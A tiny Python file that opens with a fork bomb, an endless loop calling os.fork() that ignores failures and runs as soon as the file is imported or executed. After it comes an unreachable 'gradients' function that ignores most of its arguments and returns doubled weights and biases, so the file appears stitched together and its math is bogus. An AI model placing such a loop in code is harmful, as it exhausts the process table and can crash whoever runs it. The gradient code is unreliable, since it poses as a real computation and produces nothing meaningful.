"""Forks for ever, and does not mind failing."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
